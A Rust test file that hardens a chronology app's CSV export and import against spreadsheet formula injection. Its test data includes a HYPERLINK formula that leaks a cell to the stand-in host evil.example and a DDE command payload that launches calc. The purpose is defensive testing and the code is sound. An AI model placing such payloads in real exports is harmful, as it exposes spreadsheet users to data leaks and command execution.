//! Hardening of the importers against hostile and clumsy files: formula cells, control
//! characters, ids that must survive a link, HTML where text is expected.

use super::*;
use crate::core::dataset::embedded;
use crate::core::dataset::export::to_csv;
use crate::core::dataset::validate::validate;

fn ok(text: &str, name: &str) -> Imported {
    match import(text.as_bytes(), name, false) {
        Ok(i) => {
            assert!(validate(&i.chronology).is_empty());
            i
        }
        Err(f) => panic!("{name} refused: {:#?}", f.problems),
    }
}

/// A small chronology whose events have the given titles (and summaries, notes, actors).
fn with_texts(cells: &[&str]) -> Chronology {
    let mut data = embedded().unwrap();
    data.sort_events();
    data.events.truncate(cells.len());
    for (e, cell) in data.events.iter_mut().zip(cells) {
        e.title = (*cell).to_string();
        e.summary = (*cell).to_string();
        e.evidence = (*cell).to_string();
        e.note = Some((*cell).to_string());
        // List items are trimmed by the import; the apostrophe rule applies to the whole cell.
        e.actors = vec![format!("{}x", cell.trim())];
    }
    data
}

/// Spreadsheets run a cell as a formula when it starts with one of these (OWASP).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

// ---- CSV formula injection ------------------------------------------------------------------

#[test]
fn no_csv_cell_of_the_export_starts_like_a_formula() {
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-5",
        "@SUM(A1:A2)",
        "\tx",
        "\r=1+1",
        "'=1+1",
        " =1+1",
    ];
    let mut data = with_texts(&hostile);
    data.events[0].id = "=1+1".into();
    data.events[1].id = "-5".into();
    data.events[2].id = "@x".into();
    data.events[0].start = crate::core::date::PartialDate::year(-500).unwrap();
    let csv = to_csv(&data);
    for row in csv::rows(&csv, b',') {
        for field in &row.fields {
            let first = field.trim_start_matches(' ').chars().next();
            assert!(
                !first.is_some_and(|c| FORMULA_STARTS.contains(&c)),
                "row {}: {field:?} starts like a formula",
                row.number
            );
        }
    }
    assert!(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\""));
    assert!(csv.contains(",'-0500,"), "{csv}");
}

#[test]
fn our_csv_import_undoes_exactly_the_exports_apostrophes() {
    let cells = [
        "=1+1", "-5", "@x", "+x", "\tx", "'", "'x", "''x", "'=1+1", "''-5", " =1+1", "' @x",
        "plain",
    ];
    let mut data = with_texts(&cells);
    for (i, e) in data.events.iter_mut().enumerate() {
        e.id = format!("{}{i}", cells[i].trim());
    }
    data.events[0].start = crate::core::date::PartialDate::year(-500).unwrap();
    data.events[0].end = Some(crate::core::date::PartialDate::year(-400).unwrap());
    data.sort_events();
    let back = ok(&to_csv(&data), "x.csv").chronology;
    for (a, b) in data.events.iter().zip(&back.events) {
        assert_eq!(a.id, b.id);
        assert_eq!((a.start, a.end), (b.start, b.end));
        assert_eq!(a.title, b.title);
        assert_eq!(a.summary, b.summary);
        assert_eq!(a.evidence, b.evidence);
        assert_eq!(a.note, b.note);
        assert_eq!(a.actors, b.actors);
    }
    assert_eq!(back.events.len(), data.events.len());
    // A date written without the apostrophe (an older export) reads the same.
    let old = "id,start,title\na,-0500,A\n";
    assert_eq!(
        ok(old, "x.csv").chronology.events[0].start.to_iso(),
        "-0500"
    );
    // Only our own format is un-escaped: a TimelineJS sheet keeps its apostrophes.
    let sheet = "Year,Headline\n1990,'=1+1\n";
    assert_eq!(ok(sheet, "x.csv").chronology.events[0].title, "'=1+1");
}
